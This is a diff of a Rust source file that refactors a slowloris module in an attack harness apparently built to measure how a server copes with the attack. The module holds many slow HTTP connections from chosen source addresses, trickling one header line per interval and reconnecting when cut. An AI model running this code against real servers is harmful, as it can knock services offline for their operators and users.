@@ -6,13 +6,12 @@
 
 use super::Arsenal;
 use crate::addresses::{self, Population};
-use crate::recorder::Recorder;
-use std::net::{IpAddr, SocketAddr};
+use std::net::IpAddr;
 use std::sync::atomic::{AtomicU64, Ordering};
 use std::sync::Arc;
 use std::time::{Duration, Instant};
 use tokio::io::{AsyncReadExt, AsyncWriteExt};
-use tokio::net::{TcpSocket, TcpStream};
+use tokio::net::TcpStream;
 
 /// The connections are opened over this long at the start, not in one burst.
 const RAMP_UP: Duration = Duration::from_secs(5);
@@ -29,15 +28,9 @@ pub fn trickle(k: u64) -> String {
     format!("X-Slow-{k}: {k}\r\n")
 }
 
-/// Holds `count` slow connections to `addr` until the arsenal's end, one header line per
+/// Holds `count` slow connections to the server until the arsenal's end, one header line per
 /// `interval`.
-pub async fn run(
-    arsenal: Arsenal,
-    addr: SocketAddr,
-    host: String,
-    count: usize,
-    interval: Duration,
-) {
+pub async fn run(arsenal: Arsenal, count: usize, interval: Duration) {
     let held = Arc::new(AtomicU64::new(0));
     let until = arsenal.until;
     let start = Instant::now();
@@ -49,11 +42,8 @@ pub async fn run(
         let connection = Connection {
             n,
             source,
-            addr,
-            host: host.clone(),
             interval,
-            until,
-            recorder: Arc::clone(&arsenal.recorder),
+            arsenal: arsenal.clone(),
             held: Arc::clone(&held),
         };
         tasks.spawn(async move {
@@ -77,49 +67,38 @@ pub async fn run(
 struct Connection {
     n: usize,
     source: IpAddr,
-    addr: SocketAddr,
-    host: String,
     interval: Duration,
-    until: Instant,
-    recorder: Arc<Recorder>,
+    arsenal: Arsenal,
     held: Arc<AtomicU64>,
 }
 
 impl Connection {
     async fn hold(&self) {
-        while Instant::now() < self.until {
-            let Ok(mut stream) = self.connect().await else {
-                self.recorder.slowloris_connect_failed();
+        let recorder = &self.arsenal.recorder;
+        while Instant::now() < self.arsenal.until {
+            let Ok(mut stream) = self.arsenal.connect_from(self.source).await else {
+                recorder.slowloris_connect_failed();
                 tokio::time::sleep(RECONNECT_PAUSE).await;
                 continue;
             };
-            self.recorder.slowloris_opened();
+            recorder.slowloris_opened();
             self.held.fetch_add(1, Ordering::Relaxed);
             let opened = Instant::now();
             let cut = self.trickle(&mut stream).await;
             self.held.fetch_sub(1, Ordering::Relaxed);
             if cut {
-                self.recorder.slowloris_cut(opened.elapsed());
+                recorder.slowloris_cut(opened.elapsed());
             } else {
-                self.recorder.slowloris_held_to_end(opened.elapsed());
+                recorder.slowloris_held_to_end(opened.elapsed());
             }
         }
-    }
-
-    async fn connect(&self) -> std::io::Result<TcpStream> {
-        let socket = TcpSocket::new_v4()?;
-        socket.bind(SocketAddr::new(self.source, 0))?;
-        let stream = tokio::time::timeout(Duration::from_secs(10), socket.connect(self.addr))
-            .await
-            .map_err(|_| std::io::Error::from(std::io::ErrorKind::TimedOut))??;
-        Ok(stream)
     }
 
     /// Sends the opening, then a header line per interval, until the server closes the
     /// connection (true) or the attack ends (false).
     async fn trickle(&self, stream: &mut TcpStream) -> bool {
         if stream
-            .write_all(opening(self.n, &self.host).as_bytes())
+            .write_all(opening(self.n, &self.arsenal.host).as_bytes())
             .await
             .is_err()
         {
@@ -142,7 +121,7 @@ impl Connection {
                     k += 1;
                     next += self.interval;
                 }
-                () = tokio::time::sleep_until(self.until.into()) => return false,
+                () = tokio::time::sleep_until(self.arsenal.until.into()) => return false,
             }
         }
     }
